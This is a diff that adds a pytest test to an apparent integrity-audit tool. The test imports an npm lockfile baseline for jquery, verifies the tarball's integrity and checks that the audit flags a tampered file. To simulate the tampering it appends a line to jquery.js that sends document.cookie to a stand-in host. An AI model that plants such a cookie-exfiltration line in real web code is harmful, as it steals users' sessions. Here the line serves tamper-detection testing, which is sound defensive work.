@@ -376,3 +376,57 @@ def test_cyclonedx_backport_is_vex_resolved_with_a_backport_patch():
     assert [r["id"] for p in backports for r in p["resolves"]] == ["SDSA-2018-01"]
     assert {k for k, v in vulns.items() if v["analysis"]["state"] == "exploitable"} == \
         {"SDSA-2018-02", "SDSA-2018-03", "SDSA-2018-05"}
+
+
+def test_npm_lock_import_chains_files_to_the_lock_integrity(tmp_path):
+    """A node_modules tree from a package-lock.json: the registry tarball is checked against the lock's
+    sha512 integrity, then every file of it is a sha256 entry under node_modules/<name>/."""
+    import urllib.request
+    version, name, how, _ = ARTEFACTS["jquery"][0]
+    tgz = _fetch(name, how)
+    try:
+        with urllib.request.urlopen(f"https://registry.npmjs.org/jquery/{version}", timeout=60) as resp:
+            dist = json.loads(resp.read())["dist"]
+    except OSError as exc:
+        pytest.skip(f"npm registry unreachable: {exc}")
+    lock = {"name": "site", "lockfileVersion": 3, "requires": True, "packages": {
+        "": {"name": "site", "dependencies": {"jquery": version}},
+        "node_modules/jquery": {"version": version, "resolved": dist["tarball"], "integrity": dist["integrity"]}}}
+    project = tmp_path / "site"
+    (project / "node_modules").mkdir(parents=True)
+    (project / "package-lock.json").write_text(json.dumps(lock, indent=2) + "\n")
+    (tmp_path / "tarballs").mkdir()
+    shutil.copy(tgz, tmp_path / "tarballs" / f"jquery-{version}.tgz")
+    out = tmp_path / "bl" / "site" / "1.0.yaml"
+    run = invoke("baseline", "import", project / "package-lock.json", "--kind", "npm-lock", "-p", "site",
+                 "-V", "1.0", "--tarballs", tmp_path / "tarballs", "-o", out)
+    assert run.code == 0, run
+    b = _yaml(out)
+    with tarfile.open(tgz) as tar:
+        members = {ti.name.split("/", 1)[1]: hashlib.sha256(tar.extractfile(ti).read()).hexdigest()
+                   for ti in tar if ti.isfile()}
+        tar.extractall(tmp_path / "x", filter="data")
+    assert {p: e.sha256 for p, e in _files(b).items() if p != "package-lock.json"} == \
+        {f"node_modules/jquery/{p}": h for p, h in members.items()}
+    assert (b.trust.list_kind, b.trust.level) == ("npm-lock", "vendor-list")
+    # the installed tree (npm unpacks the tarball's package/ directory) audits clean, an edit is caught
+    shutil.move(tmp_path / "x" / "package", project / "node_modules" / "jquery")
+    (project / "node_modules" / ".package-lock.json").write_text("{}\n")      # npm's own bookkeeping
+    report = invoke("audit", project, "-b", tmp_path / "bl", "-f", "json").json()
+    assert report["identified_version"] == "1.0"
+    assert not [f for f in report["findings"] if f["severity"] != "info"], report["findings"][:3]
+    victim = project / "node_modules" / "jquery" / "dist" / "jquery.js"
+    victim.write_text(victim.read_text() + "\nfetch('https://collect.vendor.example.net/?c='+document.cookie);\n")
+    report = invoke("audit", project, "-b", tmp_path / "bl", "-f", "json").json()
+    assert "node_modules/jquery/dist/jquery.js" in {f["path"] for f in report["findings"]}
+    # a tarball that is not the one the lock names stops the import
+    bad = tmp_path / "bad"
+    bad.mkdir()
+    with tarfile.open(bad / f"jquery-{version}.tgz", "w:gz") as tar:
+        data = b"{}"
+        ti = tarfile.TarInfo("package/package.json")
+        ti.size = len(data)
+        tar.addfile(ti, io.BytesIO(data))
+    run = invoke("baseline", "import", project / "package-lock.json", "--kind", "npm-lock", "-p", "site",
+                 "-V", "1.0", "--tarballs", bad, "-o", tmp_path / "bl2" / "x.yaml")
+    assert run.code == 2 and "does not match the lock's integrity" in run.stderr, run
